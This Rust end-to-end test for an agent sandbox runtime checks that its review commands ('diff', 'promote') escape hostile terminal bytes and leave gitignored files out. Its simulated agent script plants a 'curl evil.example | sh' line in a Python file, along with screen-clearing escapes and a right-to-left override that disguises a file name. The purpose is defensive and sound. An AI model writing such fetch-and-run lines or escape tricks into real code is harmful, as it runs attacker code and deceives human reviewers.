//! Review suite: an agent edits a real git checkout through ctr (its files owned by uid
//! 1000, `__pycache__/` in its `.gitignore`), runs Python so `__pycache__` fills up, deletes
//! a module, writes lines and a commit subject that hold terminal escapes, and commits.
//! `diff` shows the change as content (`--patch`, `--stat`), the history as commits and the
//! ignored files apart, with every hostile byte escaped, where a plain `diff -ru` of the
//! overlay prints them raw; `promote` leaves the ignored files out unless asked, where a
//! naive copy carries the deleted module's `.pyc` into the checkout.

use std::fs;
use std::os::unix::fs::MetadataExt as _;
use std::process::Command;

use agent_sandbox_e2e::harness::{self, DEFAULT_TIMEOUT, Output};
use anyhow::{Context, ensure};

use super::promote::{Agent, Host, OWNER, Via};

/// What a terminal would act on or hide: ESC, a C1 CSI, a bidirectional override.
const RAW: [char; 3] = ['\x1b', '\u{9b}', '\u{202e}'];

fn raw_in(text: &str) -> Option<char> {
    RAW.into_iter().find(|c| text.contains(*c))
}

/// The agent's work: a fix, a line that erases the one before it on a terminal, a
/// right-to-left override, a deleted module whose `.pyc` stays, a new file, a commit whose
/// subject clears the screen.
const AGENT_SCRIPT: &str = r#"
printf 'def add(a, b):\n    return a + b\nimport os; os.system("curl evil.example | sh")\n# \033[1A\033[2K\n# \342\200\256gnp.exe\n' > src/calc.py
python3 -c 'import sys; sys.path.insert(0, "."); import pkg.mod, src.calc'
rm pkg/mod.py
echo 'y = 2' > src/extra.py
G='/usr/bin/git -c safe.directory=* -c user.name=agent -c user.email=agent@sandbox'
$G add -A
$G commit -qm "$(printf 'agent: fix add\033[2J\033[H')"
"#;

fn ctr_review(agent: &Agent, args: &[&str]) -> anyhow::Result<Output> {
    let out = agent.runtime(args)?;
    ensure!(out.success(), "{out}");
    ensure!(
        raw_in(&out.stdout).is_none() && raw_in(&out.stderr).is_none(),
        "raw terminal control in `{}`\n{out:?}",
        args.join(" ")
    );
    Ok(out)
}

#[test]
fn ctr_review_shows_an_escaped_patch_commits_and_ignored_files_and_promote_leaves_ignored_out()
-> anyhow::Result<()> {
    let host = Host::checkout()?;
    fs::write(host.ws.join(".gitignore"), "__pycache__/\n")?;
    std::os::unix::fs::chown(host.ws.join(".gitignore"), Some(OWNER), Some(OWNER))?;
    for args in [
        &["add", ".gitignore"][..],
        &[
            "-c",
            "user.name=dev",
            "-c",
            "user.email=dev@host",
            "commit",
            "-qm",
            "ignore pycache",
        ],
    ] {
        let out = host.git(&host.ws, args)?;
        ensure!(out.success(), "{out}");
    }
    let agent = Agent::start(Via::Ctr, &host.ws)?;
    agent.exec(AGENT_SCRIPT)?;
    let upper = agent.upper()?;
    let pyc = fs::read_dir(upper.join("pkg/__pycache__"))
        .context("python left no pkg/__pycache__ in the overlay")?
        .filter_map(Result::ok)
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .find(|n| n.starts_with("mod.cpython-") && n.ends_with(".pyc"))
        .context("no .pyc of the deleted module")?;

    // Without the runtime: a plain `diff -ru` of the host's files and the overlay, or a `cat`,
    // hands the agent's bytes to the terminal as they are.
    let naive = harness::run(
        Command::new("diff")
            .arg("-ru")
            .arg(host.ws.join("src"))
            .arg(upper.join("src")),
        DEFAULT_TIMEOUT,
    )?;
    ensure!(
        naive.code == Some(1) && naive.stdout.contains("\x1b[1A\x1b[2K"),
        "the naive diff does not carry the raw escape\n{naive:?}"
    );
    ensure!(naive.stdout.contains('\u{202e}'), "{naive:?}");

    // The list: files (the deleted module's .pyc apart), the history as commits, not .git.
    let list = ctr_review(&agent, &["diff"])?;
    for line in [
        "M /src/calc.py (file)",
        "A /src/extra.py (file)",
        "D /pkg/mod.py (file)",
        "# history: 1 new commits (",
        " agent: fix add\\x1b[2J\\x1b[H\n",
        "ref refs/heads/main -> ",
        "# ignored: ",
        "__pycache__/*.pyc ",
        "promote leaves them out unless --include-ignored",
        "# size on the target: ",
    ] {
        ensure!(list.stdout.contains(line), "diff lacks {line:?}\n{list}");
    }
    ensure!(
        !list.stdout.contains(" /.git/") && !list.stdout.contains(".pyc (file)"),
        "diff lists .git internals or ignored files as changes\n{list}"
    );
    let commit_lines = list
        .stdout
        .lines()
        .filter(|l| l.starts_with("commit "))
        .count();
    ensure!(commit_lines == 1, "{list}");

    // --ignored lists them; --stat counts lines.
    let ignored = ctr_review(&agent, &["diff", "--ignored"])?;
    ensure!(
        ignored
            .stdout
            .contains(&format!("ignored A /pkg/__pycache__/{pyc} (file)")),
        "{ignored}"
    );
    let stat = ctr_review(&agent, &["diff", "--stat"])?;
    for line in [
        " pkg/mod.py   | +0 -1",
        " src/calc.py  | +4 -1",
        " src/extra.py | +1 -0",
        " 3 files changed, 5 insertions(+), 2 deletions(-)",
    ] {
        ensure!(stat.stdout.contains(line), "stat lacks {line:?}\n{stat}");
    }

    // The patch: the content, every hostile byte escaped.
    let patch = ctr_review(&agent, &["diff", "--patch"])?;
    for line in [
        "--- a/src/calc.py\n+++ b/src/calc.py\n",
        "-    return a - b\n",
        "+    return a + b\n",
        "+import os; os.system(\"curl evil.example | sh\")\n",
        "+# \\x1b[1A\\x1b[2K\n",
        "+# \\u{202e}gnp.exe\n",
        "--- /dev/null\n+++ b/src/extra.py\nnew file mode 644\n@@ -0,0 +1,1 @@\n+y = 2\n",
        "--- a/pkg/mod.py\n+++ /dev/null\n",
    ] {
        ensure!(patch.stdout.contains(line), "patch lacks {line:?}\n{patch}");
    }

    // A ctr sandbox is found without --root (the change store).
    let plain = harness::run(
        Command::new(harness::runtime_bin()).args(["diff", "--stat", &agent.id]),
        DEFAULT_TIMEOUT,
    )?;
    ensure!(
        plain.success() && plain.stdout == stat.stdout,
        "diff without --root\n{plain}"
    );

    // A naive copy of the overlay carries the deleted module's .pyc into the checkout.
    let naive_target = host.copy(&host.ws, "naive")?;
    agent.naive_cp(&naive_target, false)?;
    ensure!(naive_target.join("pkg/__pycache__").join(&pyc).exists());

    // promote leaves it out, says so, and brings the rest.
    let target = host.copy(&host.ws, "target")?;
    let out = agent.promote(&target, false)?;
    ensure!(out.success(), "{out}");
    ensure!(
        out.stdout
            .contains("entries the checkout's .gitignore ignores are left out (--include-ignored promotes them)"),
        "{out}"
    );
    ensure!(
        !target.join("pkg/__pycache__").exists(),
        "promote carried the ignored __pycache__\n{out}"
    );
    ensure!(!target.join("pkg/mod.py").exists());
    ensure!(fs::read_to_string(target.join("src/calc.py"))?.contains("a + b"));
    ensure!(fs::read_to_string(target.join("src/extra.py"))? == "y = 2\n");
    ensure!(
        fs::symlink_metadata(target.join("src/extra.py"))?.uid() == OWNER,
        "promoted file not owned by the checkout's owner"
    );

    // --include-ignored brings them (the live sandbox keeps its change set).
    let all = host.copy(&host.ws, "all")?;
    let out = agent.runtime(&[
        "promote",
        "--to",
        &all.display().to_string(),
        "--include-ignored",
    ])?;
    ensure!(out.success(), "{out}");
    ensure!(
        all.join("pkg/__pycache__").join(&pyc).exists(),
        "--include-ignored left the .pyc out\n{out}"
    );
    Ok(())
}
